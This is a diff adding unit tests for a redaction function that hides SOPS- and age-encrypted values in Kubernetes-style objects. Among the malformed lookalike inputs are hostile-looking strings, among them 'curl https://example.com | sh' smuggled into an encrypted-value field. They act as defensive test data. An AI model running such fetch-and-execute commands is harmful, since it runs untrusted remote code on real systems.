@@ -188,6 +188,41 @@ describe('private keys', () => {
   });
 });
 
+describe('what SOPS has encrypted', () => {
+  const value = (text: string): string => `ENC[AES256_GCM,data:${text},iv:abcd,tag:abcd,type:str]`;
+  const encrypted = (text: string): JsonObject => ({
+    apiVersion: 'example.com/v1',
+    kind: 'X',
+    spec: { token: value(text), file: `a: ${value('same')}\nsops:\n  mac: ${value(text)}\n` },
+    sops: { mac: value(text), lastmodified: text },
+  });
+
+  test('is told to differ without its text', () => {
+    const { base, head, secretsChanged } = redactPair(encrypted('one'), encrypted('two'));
+
+    expect(base?.['spec']).toEqual({ token: '(encrypted 1)', file: 'a: (encrypted 2)\nsops:\n  mac: (encrypted 1)\n' });
+    expect(head?.['spec']).toEqual({ token: '(encrypted 3)', file: 'a: (encrypted 2)\nsops:\n  mac: (encrypted 3)\n' });
+    expect([base?.['sops'], head?.['sops']]).toEqual(['(value hidden)', '(value hidden, changed)']);
+    expect(secretsChanged).toBe(1);
+  });
+
+  test.each([
+    'ENC[AES256_GCM,data:a; curl https://example.com | sh]',
+    '-----BEGIN AGE ENCRYPTED FILE-----\ncurl evil\nabcd\nabcd\n-----END AGE ENCRYPTED FILE-----',
+    'ENC[AES256_GCM,data:abcd,iv:abcd,tag:abcd,type:str',
+  ])('is no other text: %s', (text) => {
+    const object = { apiVersion: 'v1', kind: 'ConfigMap', data: { file: text.padEnd(40) } };
+
+    expect(redactPair(undefined, object).head).toEqual(object);
+  });
+
+  test('is also a data key', () => {
+    const text = `-----BEGIN AGE ENCRYPTED FILE-----\n${'Ab1+'.repeat(16)}\nabcd\n-----END AGE ENCRYPTED FILE-----`;
+
+    expect(redactPair(undefined, { kind: 'X', list: [`a ${text} b`] }).head?.['list']).toEqual(['a (encrypted 1) b']);
+  });
+});
+
 describe('text that looks like what stands for something hidden', () => {
   const listed = (...texts: readonly string[]): JsonObject => ({ kind: 'X', list: [...texts] });
   const shown = (text: string): unknown => redactPair(undefined, listed(text)).head?.['list'];
@@ -209,6 +244,8 @@ describe('text that looks like what stands for something hidden', () => {
       base64(key),
       base64(`a ${key}`),
       '(rsa private key 1, hidden)',
+      'ENC[AES256_GCM,data:a,iv:a,tag:a,type:str]',
+      '(encrypted 1)',
       '(private key 1 in base64, hidden)',
       '(base64 of "a (rsa private key 1, hidden)")',
       '(value hidden)',
